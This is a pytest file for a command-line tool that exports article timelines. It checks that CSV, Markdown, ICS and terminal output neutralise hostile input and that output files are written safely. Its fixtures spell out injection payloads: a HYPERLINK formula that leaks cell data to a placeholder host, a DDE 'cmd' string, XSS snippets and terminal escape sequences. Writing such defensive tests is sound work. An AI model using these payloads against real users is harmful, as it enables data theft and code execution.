"""Exports that are safe to open, messages that are safe to print, and output
files written as the shell would (issue 10): every case here failed before."""

from __future__ import annotations

import csv
import io
import json
import os
import signal
import stat
import subprocess
import sys
import threading
import time
from pathlib import Path
from typing import TextIO

import pytest
from typer.testing import CliRunner

from crimea_cli import parse_article
from crimea_cli.cli import app
from crimea_cli.render import visible

EXIT_IO = 74   # the documented code for I/O errors

runner = CliRunner()
CLI = [sys.executable, "-m", "crimea_cli"]
FORMULA = ("=", "+", "-", "@", "\t", "\r")

HOSTILE = (
    '= =HYPERLINK("http://example.invalid/?"&A1,"open") =\n\n'
    "Someone\n- Born: 5 May 1986\n- Note: @SUM(1+1)\n- Awards: =Order of Merit (2019)\n\n"
    "-2+3 was written on 5 May 1986 with <script>alert(1)</script>, "
    "![a photo](javascript:alert(1)), <img src=x onerror=alert(1)> & *stars* `code`.\n\n"
    "== +Section ==\n"
    "On 7 June 950 a king with a bell \x07 and an escape \x1b]0;title\x07 ruled.\n"
)


@pytest.fixture(autouse=True)
def _plain(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("NO_COLOR", "1")
    monkeypatch.setenv("COLUMNS", "100")
    monkeypatch.delenv("CRIMEA_CLI_ARTICLE", raising=False)


@pytest.fixture
def hostile(tmp_path: Path) -> Path:
    path = tmp_path / "hostile.txt"
    path.write_text(HOSTILE, encoding="utf-8")
    return path


def _run(*args: str) -> tuple[int, bytes, str]:
    result = runner.invoke(app, list(args))
    return result.exit_code, result.stdout_bytes, result.stderr


# --- CSV ----------------------------------------------------------------------------


@pytest.mark.parametrize("command", ["timeline", "awards", "search", "facts"])
def test_csv_cells_never_start_a_formula(hostile: Path, command: str) -> None:
    args = [command, "-a", str(hostile), "-f", "csv"]
    if command == "search":
        args.insert(1, "5")
    code, out, _ = _run(*args)
    assert code == 0
    rows = list(csv.reader(io.StringIO(out.decode("utf-8"), newline="")))
    cells = [c for row in rows[1:] for c in row]
    assert cells and not [c for c in cells if c.startswith(FORMULA)]
    assert any(c.startswith("'=HYPERLINK") for c in cells)   # guarded, as OWASP says


def test_raw_cells_keep_the_data(hostile: Path) -> None:
    code, out, _ = _run("timeline", "-a", str(hostile), "-f", "csv", "--raw-cells")
    rows = list(csv.DictReader(io.StringIO(out.decode("utf-8"), newline="")))
    assert code == 0 and rows[0]["article"].startswith("=HYPERLINK")
    assert any(r["text"].startswith("-2+3") for r in rows)


def test_a_file_name_title_with_a_tab_is_guarded() -> None:
    from crimea_cli import extract_events
    from crimea_cli.records import event_record
    from crimea_cli.render import Terminal, renderer

    article = parse_article("In 2014 it began.\n", name="\tcmd|' /C calc'!A0")
    out = io.StringIO(newline="")
    renderer("csv").render("events", [event_record(e) for e in extract_events(article)],
                           out, Terminal(color=False, width=80, is_tty=False))
    (row,) = list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
    assert row["article"] == "'\tcmd|' /C calc'!A0"


def test_excel_csv_has_a_bom(tmp_path: Path) -> None:
    code, out, _ = _run("timeline", "-f", "csv", "--excel")
    assert code == 0 and out.startswith(b"\xef\xbb\xbfdate,")
    assert "Мустафаєв" in out.decode("utf-8-sig")
    target = tmp_path / "x.csv"
    assert _run("timeline", "-f", "csv", "--excel", "-o", str(target))[0] == 0
    assert target.read_bytes().startswith(b"\xef\xbb\xbfdate,")
    assert not _run("timeline", "-f", "csv")[1].startswith(b"\xef\xbb\xbf")


# --- Markdown -------------------------------------------------------------------------


def test_markdown_renders_no_html_image_or_link(hostile: Path) -> None:
    code, out, _ = _run("timeline", "-a", str(hostile), "-f", "markdown")
    text = out.decode("utf-8")
    assert code == 0
    for live in ("<script>", "<img", "![a photo](", "](javascript:", "*stars*", "`code`", " & "):
        assert live not in text
    assert "&lt;script&gt;" in text and "&amp;" in text
    assert "\\!\\[a photo\\]\\(javascript:alert\\(1\\)\\)" in text


# --- ICS ------------------------------------------------------------------------------


def test_ics_pads_early_years_and_drops_control_characters(hostile: Path) -> None:
    code, out, _ = _run("timeline", "-a", str(hostile), "-f", "ics")
    text = out.decode("utf-8")
    assert code == 0
    assert "DTSTART;VALUE=DATE:09500607\r\nDTEND;VALUE=DATE:09500608" in text
    assert not [ch for ch in text if ord(ch) < 0x20 and ch not in "\r\n"]
    assert "\x7f" not in text and "␛]0" in text.replace("\r\n ", "")


# --- the visible form, in views and messages -------------------------------------------


@pytest.mark.parametrize("char", ["\u061c", "\u2028", "\u2029"])
def test_visible_shows_the_arabic_letter_mark_and_separators(char: str) -> None:
    assert char not in visible(f"a{char}b") and f"\\u{ord(char):04x}" in visible(f"a{char}b")


def test_messages_show_paths_in_visible_form(tmp_path: Path) -> None:
    name = str(tmp_path / "x\x1b]0;owned\x07\x1b[2J\nforged: line.txt")
    code, _, err = _run("timeline", "-a", name)
    assert code == 2 and err.count("\n") == 1
    assert "\x1b" not in err and "\x07" not in err and "␛]0;owned␇␛[2J forged" in err


def test_skipped_files_and_search_terms_are_shown_visibly(tmp_path: Path) -> None:
    (tmp_path / "a.txt").write_text("In 2014 it began.\n", encoding="utf-8")
    (tmp_path / "b\x1b[31m.txt").write_bytes(b"\xff\xfe\xfd")
    code, _, err = _run("timeline", "-a", str(tmp_path), "-f", "json")
    assert code == 3 and "\x1b" not in err and "b␛[31m.txt" in err
    code, _, err = _run("search", "-a", str(tmp_path / "a.txt"), "nothing\x1b[2J\nhere")
    assert code == 1 and err.count("\n") == 1 and "\x1b" not in err


@pytest.mark.skipif(sys.platform == "darwin", reason="macOS refuses non-UTF-8 names")
@pytest.mark.parametrize("fmt", ["json", "jsonl", "csv", "timelinejs", "ics"])
def test_non_utf8_file_names_give_valid_unicode(tmp_path: Path, fmt: str) -> None:
    folder = os.fsencode(tmp_path / "d")
    os.mkdir(folder)
    with open(os.path.join(folder, b"caf\xe9 \x1b[2J.txt"), "wb") as fh:
        fh.write(b"On 5 May 2000 a thing happened.\n")
    proc = subprocess.run([*CLI, "timeline", "-a", folder, "-f", fmt], capture_output=True,
                          check=False, env={**os.environ, "NO_COLOR": "1"}, timeout=60)
    assert proc.returncode == 0, proc.stderr
    text = proc.stdout.decode("utf-8")        # valid UTF-8, no lone surrogate
    assert "caf\ufffd" in text.replace("\r\n ", "")
    proc = subprocess.run([*CLI, "timeline", "-a", folder, "-f", fmt, "-o", tmp_path / "o"],
                          capture_output=True, check=False, timeout=60)
    assert proc.returncode == 0, proc.stderr


# --- output files -----------------------------------------------------------------------


def test_output_dash_is_standard_output(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    code, out, _ = _run("awards", "-f", "json", "-o", "-")
    assert code == 0 and json.loads(out)[0]["name"] == "Order of Merit"
    assert list(tmp_path.iterdir()) == []


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="FIFOs")
def test_force_writes_into_a_fifo_and_never_replaces_it(tmp_path: Path) -> None:
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    got: list[bytes] = []
    reader = threading.Thread(target=lambda: got.append(fifo.read_bytes()), daemon=True)
    reader.start()
    code, _, err = _run("awards", "-f", "json", "-o", str(fifo), "--force")
    reader.join(timeout=20)
    assert code == 0, err
    assert stat.S_ISFIFO(os.lstat(fifo).st_mode) and b"Order of Merit" in got[0]
    assert [p.name for p in tmp_path.iterdir()] == ["pipe"]


def test_force_follows_a_symlink_to_a_device_without_replacing_it(tmp_path: Path) -> None:
    link = tmp_path / "stdout"
    link.symlink_to(os.devnull)
    assert _run("awards", "-f", "json", "-o", str(link), "--force")[0] == 0
    assert link.is_symlink() and stat.S_ISCHR(os.stat(os.devnull).st_mode)
    assert [p.name for p in tmp_path.iterdir()] == ["stdout"]


def test_force_through_a_symlink_to_a_file_keeps_the_link(tmp_path: Path) -> None:
    real = tmp_path / "real.json"
    real.write_text("old", encoding="utf-8")
    link = tmp_path / "link.json"
    link.symlink_to(real)
    assert _run("awards", "-f", "json", "-o", str(link), "--force")[0] == 0
    assert link.is_symlink() and "Order of Merit" in real.read_text(encoding="utf-8")


def test_a_dangling_symlink_is_not_replaced(tmp_path: Path) -> None:
    link = tmp_path / "dangling.json"
    link.symlink_to(tmp_path / "nowhere")
    code, _, err = _run("awards", "-f", "json", "-o", str(link))
    assert code == 2 and "exists" in err
    code, _, err = _run("awards", "-f", "json", "-o", str(link), "--force")
    assert code == EXIT_IO and "dangling" in err
    assert link.is_symlink() and not (tmp_path / "nowhere").exists()


def test_a_file_that_appears_during_the_write_is_not_overwritten(tmp_path: Path) -> None:
    from crimea_cli.errors import CrimeaError
    from crimea_cli.output import write_output

    target = tmp_path / "out.json"

    def write(fh: TextIO) -> None:
        fh.write("mine")
        target.write_text("another run's", encoding="utf-8")   # a concurrent run wins

    with pytest.raises(CrimeaError, match="exists"):
        write_output(str(target), False, write)
    assert target.read_text(encoding="utf-8") == "another run's"
    assert [p.name for p in tmp_path.iterdir()] == ["out.json"]


def test_concurrent_runs_one_wins(tmp_path: Path) -> None:
    target = tmp_path / "race.json"
    procs = [subprocess.Popen([*CLI, "timeline", "-f", "json", "-o", str(target)],
                              stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
             for _ in range(4)]
    try:
        codes = sorted(p.wait(timeout=60) for p in procs)
    finally:
        for p in procs:
            p.kill()
            p.wait(timeout=20)
    assert codes == [0, 2, 2, 2]
    assert [p.name for p in tmp_path.iterdir()] == ["race.json"]
    json.loads(target.read_text(encoding="utf-8"))


def test_modes_are_the_shells(tmp_path: Path) -> None:
    old = os.umask(0o027)
    try:
        new = tmp_path / "new.json"
        assert _run("awards", "-f", "json", "-o", str(new))[0] == 0
        assert stat.S_IMODE(new.stat().st_mode) == 0o640
    finally:
        os.umask(old)
    kept = tmp_path / "kept.json"
    kept.write_text("x", encoding="utf-8")
    kept.chmod(0o604)
    assert _run("awards", "-f", "json", "-o", str(kept), "--force")[0] == 0
    assert stat.S_IMODE(kept.stat().st_mode) == 0o604


def test_force_keeps_hard_links_one_file(tmp_path: Path) -> None:
    one = tmp_path / "one.json"
    one.write_text("x", encoding="utf-8")
    two = tmp_path / "two.json"
    os.link(one, two)
    assert _run("awards", "-f", "json", "-o", str(one), "--force")[0] == 0
    assert one.stat().st_nlink == 2 and "Order of Merit" in two.read_text(encoding="utf-8")


@pytest.mark.parametrize("failure", [KeyboardInterrupt, OSError])
def test_force_on_hard_links_leaves_the_file_as_it_was_when_the_output_fails(
        tmp_path: Path, failure: type[BaseException]) -> None:
    # rewritten in place so that the links stay one file: but emptied only
    # once the whole output is there (a signal or an error while it is made
    # used to leave half of it, or nothing, in every link)
    from crimea_cli.errors import CrimeaError
    from crimea_cli.output import write_output

    one = tmp_path / "one.json"
    one.write_text("the old output", encoding="utf-8")
    two = tmp_path / "two.json"
    os.link(one, two)

    def write(fh: TextIO) -> None:
        fh.write("[\n  {")
        raise failure(28, "No space left on device")

    with pytest.raises((failure, CrimeaError)):
        write_output(str(one), True, write)
    assert two.read_text(encoding="utf-8") == "the old output"
    assert one.stat().st_nlink == 2 and sorted(tmp_path.iterdir()) == [one, two]
    write_output(str(one), True, lambda fh: fh.write("new"))
    assert two.read_text(encoding="utf-8") == "new" and one.stat().st_nlink == 2


@pytest.mark.parametrize("target", ["DIR", ""])
@pytest.mark.parametrize("force", [False, True])
def test_output_to_a_directory_or_nothing_is_an_io_error(tmp_path: Path, target: str,
                                                         force: bool) -> None:
    path = str(tmp_path) if target == "DIR" else ""
    code, out, err = _run("awards", "-o", path, *(["--force"] if force else []))
    assert (code, out) == (EXIT_IO, b"") and err.count("\n") == 1
    assert "internal error" not in err and list(tmp_path.iterdir()) == []


def test_permission_denied_on_output_is_an_io_error(tmp_path: Path,
                                                    monkeypatch: pytest.MonkeyPatch) -> None:
    from crimea_cli import output

    def refuse(directory: str) -> tuple[int, str]:
        raise PermissionError(13, "Permission denied", directory)

    monkeypatch.setattr(output, "_create_temporary", refuse)
    code, _, err = _run("awards", "-o", str(tmp_path / "x.json"))
    assert code == EXIT_IO
    assert err == f"crimea-cli: error: {tmp_path / 'x.json'}: permission denied\n"


@pytest.mark.skipif(not os.path.exists("/dev/full"), reason="no /dev/full")
@pytest.mark.parametrize("fmt", ["json", "rich", "csv"])
def test_a_full_disk_is_one_line_and_the_io_code(fmt: str) -> None:
    with open("/dev/full", "w") as full:
        proc = subprocess.run([*CLI, "timeline", "-f", fmt], stdout=full, stderr=subprocess.PIPE,
                              text=True, check=False, timeout=60)
    assert proc.returncode == EXIT_IO
    assert proc.stderr == "crimea-cli: error: output: no space left on device\n"


@pytest.mark.skipif(os.name != "posix", reason="shell redirections")
@pytest.mark.parametrize(("redirect", "message"), [
    (">&-", "standard output is closed"),
    ("-a - <&-", "standard input is closed"),
])
def test_closed_standard_streams(redirect: str, message: str) -> None:
    proc = subprocess.run(f"{sys.executable} -m crimea_cli timeline {redirect}", shell=True,
                          capture_output=True, text=True, check=False, timeout=60)
    assert proc.returncode == EXIT_IO and proc.stderr.count("\n") == 1
    assert message in proc.stderr and "internal error" not in proc.stderr


@pytest.mark.skipif(os.name != "posix", reason="signals")
@pytest.mark.parametrize(("signum", "code"), [(signal.SIGTERM, 143), (signal.SIGHUP, 129)])
def test_termination_during_a_write_leaves_no_temporary_file(tmp_path: Path, signum: int,
                                                              code: int) -> None:
    first = tmp_path / "a.txt"
    first.write_text("= A =\n\nIn 2014 it began.\n", encoding="utf-8")
    out = tmp_path / "out" / "x.jsonl"
    out.parent.mkdir()
    # the second article is standard input, kept open: the write is under way
    proc = subprocess.Popen([*CLI, "timeline", "-a", str(first), "-a", "-", "-f", "jsonl",
                             "-o", str(out)], stdin=subprocess.PIPE, stderr=subprocess.PIPE)
    try:
        deadline = time.monotonic() + 20
        while not list(out.parent.iterdir()) and time.monotonic() < deadline:
            time.sleep(0.05)
        assert list(out.parent.iterdir()), "no temporary file was started"
        proc.send_signal(signum)
        _, err = proc.communicate(timeout=20)
    finally:
        proc.kill()
        proc.wait(timeout=20)
    assert proc.returncode == code and b"Traceback" not in err
    assert list(out.parent.iterdir()) == []


# --- streaming exports --------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["json", "timelinejs", "ics"])
def test_json_timelinejs_and_ics_stream(fmt: str) -> None:
    """Each record is written before the next is asked for: the document is
    never built whole in memory."""
    from collections.abc import Iterator

    from crimea_cli import extract_events
    from crimea_cli.records import event_record
    from crimea_cli.render import Terminal, renderer

    article = parse_article("= T =\n\nOn 5 May 2001 one thing. On 6 June 2002 another thing.\n")
    records = [event_record(e) for e in extract_events(article)]
    out = io.StringIO(newline="")

    def lazily() -> Iterator[dict[str, object]]:
        for i, rec in enumerate(records):
            if i:
                assert "one thing" in out.getvalue(), "nothing written before the next record"
            yield rec

    renderer(fmt).render("events", lazily(), out, Terminal(color=False, width=80, is_tty=False))
    assert "another thing" in out.getvalue()
    if fmt == "json":
        assert out.getvalue() == json.dumps(records, ensure_ascii=False, indent=2) + "\n"
